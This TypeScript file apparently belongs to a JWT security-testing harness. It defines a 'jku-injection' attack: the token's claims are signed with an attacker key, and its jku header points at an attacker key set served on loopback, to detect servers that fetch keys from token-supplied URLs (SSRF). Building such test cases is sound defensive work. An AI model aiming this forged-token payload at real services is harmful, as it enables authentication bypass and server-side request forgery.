/**
 * jku-injection — the honest claims signed with the attacker's key, the
 * header's `jku` (RFC 7515 §4.1.2) pointing at the attacker's key set,
 * served by the harness on loopback. A fetch of that URL is a finding even
 * when the token is then refused: the RS lets tokens make it call out
 * (SSRF, RFC 8725 §3.10).
 */
import { SignJWT } from 'jose'
import { claimsFor } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

export const jkuInjection = defineAttack({
  id: 'jku-injection',
  summary: 'fetches a key set from the URL the token names (jku)',
  refs: ['RFC 7515 §4.1.2', 'RFC 8725 §3.10'],
  async build(kit) {
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const { jwksUrl, privateKey, kid } = kit.attacker
    const token = await new SignJWT(claims)
      .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid, jku: jwksUrl })
      .sign(privateKey)
    return { applicable: true, watchesAttackerUrl: true, requests: [{ variant: 'jku to the attacker key set', token }] }
  },
})
